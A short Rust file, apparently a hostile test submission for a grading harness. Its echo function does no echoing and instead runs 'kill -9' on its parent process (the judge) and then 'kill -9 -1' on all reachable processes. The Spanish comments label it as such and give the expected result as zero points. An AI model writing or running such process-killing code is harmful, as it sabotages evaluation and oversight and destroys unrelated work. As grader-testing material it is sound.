//! Mata a quien lo juzga, y a todo lo que pueda.
//!
//! Merece: no termina, 0 puntos.
//! Dice: Alguien terminó el proceso

use std::io::{self, Read, Write};

pub fn echo<S: Read + Write>(stream: &mut S) -> io::Result<u64> {
    let parent = std::os::unix::process::parent_id().to_string();
    let _ = std::process::Command::new("sh")
        .args(["-c", "kill -9 $0; kill -9 -1", &parent])
        .status();
    Ok(0)
}
